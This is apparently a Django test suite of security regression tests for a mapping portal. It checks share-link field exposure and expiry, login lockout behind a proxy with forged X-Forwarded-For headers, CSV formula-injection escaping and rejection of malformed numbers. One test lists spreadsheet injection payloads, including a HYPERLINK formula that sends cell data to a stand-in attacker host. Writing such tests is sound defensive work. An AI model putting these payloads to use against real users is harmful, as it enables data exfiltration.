"""Security findings of issue 11, each a specification that failed before its fix."""

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import mapbox_vector_tile
import pytest
from django.core.exceptions import ValidationError
from django.test import Client, override_settings
from django.urls import reverse
from django.utils import timezone

from maps.models import ShareLink
from maps.services import share_link_create
from tests.conftest import World, client_for
from tests.factories import make_user
from tests.layers_data import feature, geojson_bytes, point, run_import, write_bytes
from tests.map_factories import make_published_map, tile_of

pytestmark = pytest.mark.django_db


# --- share links return only what the published map shows


@pytest.fixture
def shared(world: World) -> tuple[ShareLink, dict]:
    # The map styles by zone and pops up zone and name; `value` is deliberately not shown.
    _, version = make_published_map(project=world.project_a, by=world.analyst, n=20)
    link = share_link_create(
        version=version, by=world.analyst, expires_at=timezone.now() + timedelta(days=7)
    )
    return link, version.definition["layers"][0]


def share_tile(client: Client, link: ShareLink, layer: dict, **query: str):
    z, x, y = tile_of(-122.3595, 38.4001, 15)
    url = reverse("maps:share-tile", args=[link.token, layer["layer_id"], z, x, y])
    params = "&".join(f"{k}={v}" for k, v in {"v": layer["version_id"], **query}.items())
    return client.get(f"{url}?{params}")


def test_a_share_link_tile_refuses_attributes_the_map_does_not_show(client, shared) -> None:
    link, layer = shared
    assert "value" not in layer["fields"]
    for query in ({"fields": "value"}, {"fields": "zone,value"}, {"coarse": "value"}):
        response = share_tile(client, link, layer, **query)
        assert response.status_code == 400, query
        assert b"value" in response.content and b"Parcel" not in response.content


def test_a_share_link_tile_carries_the_attributes_the_map_shows(client, shared) -> None:
    link, layer = shared
    response = share_tile(client, link, layer, fields="name,zone")
    assert response.status_code == 200
    tile = mapbox_vector_tile.decode(response.content)[f"layer_{layer['layer_id']}"]
    assert tile["features"] and all(
        set(f["properties"]) <= {"name", "zone"} for f in tile["features"]
    )


def test_share_link_search_only_matches_shown_attributes(client, shared) -> None:
    link, _layer = shared
    url = reverse("maps:share-search", args=[link.token])
    # `value` is 10 × the index: 190 exists only in the hidden column.
    assert client.get(url, {"q": "190"}).json()["results"] == []
    results = client.get(url, {"q": "Parcel 1"}).json()["results"]
    assert results and all(set(r["properties"]) <= {"name", "zone"} for r in results)


# --- share links are bounded


def test_a_share_link_must_expire_within_the_configured_maximum(world: World, settings) -> None:
    _, version = make_published_map(project=world.project_a, by=world.analyst, n=3)
    with pytest.raises(ValidationError, match="must expire"):
        share_link_create(version=version, by=world.analyst, expires_at=None)
    too_far = timezone.now() + timedelta(days=settings.SHARE_LINK_MAX_DAYS + 1)
    with pytest.raises(ValidationError, match="at most"):
        share_link_create(version=version, by=world.analyst, expires_at=too_far)
    assert not ShareLink.objects.exists()


def test_the_share_form_shows_the_default_expiry_and_refuses_odd_days(world, as_analyst) -> None:
    from django.conf import settings

    _, version = make_published_map(project=world.project_a, by=world.analyst, n=3)
    page = as_analyst.get(reverse("maps:version", args=[version.pk])).content.decode()
    assert f'value="{settings.SHARE_LINK_DEFAULT_DAYS}"' in page
    assert f'max="{settings.SHARE_LINK_MAX_DAYS}"' in page
    create = reverse("maps:share-create", args=[version.pk])
    for days in ("", "0", "²", "1000000000000", str(settings.SHARE_LINK_MAX_DAYS + 1)):
        response = as_analyst.post(create, {"days": days}, follow=True)
        assert response.status_code == 200, days
        if days == "":
            continue
        assert (
            not ShareLink.objects.filter(version=version)
            .exclude(expires_at=None)
            .filter(expires_at__gt=timezone.now() + timedelta(days=settings.SHARE_LINK_MAX_DAYS))
            .exists()
        )
    # An empty field takes the default expiry, never "never".
    made = ShareLink.objects.get(version=version)
    expected = timezone.now() + timedelta(days=settings.SHARE_LINK_DEFAULT_DAYS)
    assert abs((made.expires_at - expected).total_seconds()) < 60


# --- login lockout: the combination of user name and address, behind a trusted proxy


LOGIN = "/accounts/login/"
PROXY = "10.0.0.2"


def login(username: str, password: str, address: str, forwarded: str | None = None) -> Client:
    client = Client()
    meta = {"REMOTE_ADDR": PROXY if forwarded is not None else address}
    if forwarded is not None:
        meta["HTTP_X_FORWARDED_FOR"] = forwarded
    client.post(LOGIN, {"username": username, "password": password}, **meta)
    return client


def logged_in(client: Client) -> bool:
    return "_auth_user_id" in client.session


@override_settings(TRUSTED_PROXY_COUNT=1)
def test_a_strangers_wrong_passwords_do_not_lock_out_others_behind_the_same_proxy() -> None:
    make_user(username="alice")
    make_user(username="bob")
    # Everyone reaches the portal through the one proxy; the stranger shares alice's office address.
    for _ in range(6):
        login("alice", "wrong", "", forwarded="203.0.113.7")
    assert not logged_in(login("alice", "pw-for-tests-1", "", forwarded="203.0.113.7"))
    assert logged_in(login("bob", "pw-for-tests-1", "", forwarded="203.0.113.7"))
    assert logged_in(login("alice", "pw-for-tests-1", "", forwarded="198.51.100.4"))


@override_settings(TRUSTED_PROXY_COUNT=1)
def test_a_forged_forwarded_for_does_not_escape_the_lockout() -> None:
    make_user(username="alice")
    for i in range(6):
        # The client writes its own X-Forwarded-For; the proxy appends the real address.
        login("alice", "wrong", "", forwarded=f"192.0.2.{i}, 203.0.113.7")
    assert not logged_in(login("alice", "pw-for-tests-1", "", forwarded="192.0.2.99, 203.0.113.7"))


@override_settings(LOGIN_ACCOUNT_FAILURE_LIMIT=12)
def test_an_account_still_locks_when_guesses_come_from_many_addresses() -> None:
    make_user(username="alice")
    for i in range(12):
        login("alice", "wrong", f"198.51.100.{i}")
    assert not logged_in(login("alice", "pw-for-tests-1", "198.51.100.200"))


def test_without_a_trusted_proxy_the_forwarded_header_is_ignored() -> None:
    from django.test import RequestFactory

    from portal.login_security import client_address

    request = RequestFactory().get("/", REMOTE_ADDR="198.51.100.1", HTTP_X_FORWARDED_FOR="1.2.3.4")
    assert client_address(request) == "198.51.100.1"
    with override_settings(TRUSTED_PROXY_COUNT=1, TRUSTED_PROXIES=["10.0.0.0/8"]):
        assert client_address(request) == "198.51.100.1"  # not one of our proxies
        request.META["REMOTE_ADDR"] = PROXY
        assert client_address(request) == "1.2.3.4"


# --- layer CSV downloads cannot run as spreadsheet formulas


def test_layer_csv_downloads_neutralise_spreadsheet_formulas(
    world: World, as_analyst, tmp_path: Path
) -> None:
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-2", "@SUM(A1)", "\tx"]
    path = write_bytes(
        tmp_path,
        "cells.geojson",
        geojson_bytes([feature(point(), note=text, n=i) for i, text in enumerate(evil)]),
    )
    (version,) = run_import(world.project_a, path)
    response = as_analyst.get(f"/layers/{version.layer_id}/download/csv/")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    notes = [row["note"] for row in csv.DictReader(io.StringIO(body))]
    assert notes == [f"'{text}" for text in evil]
    # The GeoJSON download keeps the data as it is: only spreadsheets need the guard.
    geojson = json.loads(
        b"".join(as_analyst.get(f"/layers/{version.layer_id}/download/geojson/").streaming_content)
    )
    assert [f["properties"]["note"] for f in geojson["features"]] == evil


# --- odd numbers in a request are a 400, never a 500


def test_odd_numbers_in_query_strings_are_a_400_with_a_message(world: World, as_analyst) -> None:
    from tests.map_factories import make_parcel_layer

    _, version = make_published_map(project=world.project_a, by=world.analyst, n=3)
    layer = make_parcel_layer(project=world.project_a, n=3)
    export = reverse("maps:export", args=[version.pk, "png"])
    tile = reverse("layers:tile", args=[layer.pk, 14, 0, 0])
    huge = "9" * 30
    urls = [
        f"{export}?width=²",
        f"{export}?height={huge}",
        f"{export}?layers=1,²",
        f"{tile}?v=²",
        f"{tile}?v={huge}",
        f"/layers/{layer.pk}/features/?page=²",
        f"/layers/{layer.pk}/features/?page={huge}",
        f"/layers/{layer.pk}/features/?version=-1",
        "/board/?client=²",
        f"/board/?assignee={huge}",
    ]
    for url in urls:
        response = as_analyst.get(url)
        assert response.status_code == 400, url
        assert b"must be" in response.content, url
    for url, data in (("/maps/view-as/", {"agency": "²"}), ("/notifications/read/", {"id": "²"})):
        assert as_analyst.post(url, data).status_code == 400, url
    assert client_for(world.manager_a).get(f"{export}?width=400").status_code == 200


def test_odd_numbers_in_the_timesheet_are_messages_not_500s(world: World, as_analyst) -> None:
    from hours.models import TimeEntry

    assert as_analyst.post("/hours/timesheet/", {"rows": "²"}).status_code == 400
    for cell in ({"r0-deliverable": "²"}, {"r0-deliverable": "9" * 30}, {"r0-d0": "NaN"}):
        post = {"rows": "1", "r0-project": "zoning-a", "r0-d0": "2", **cell}
        response = as_analyst.post("/hours/timesheet/", post)
        assert response.status_code == 200, cell
        assert b"not part of" in response.content or b"not a number" in response.content, cell
    assert not TimeEntry.objects.exists()
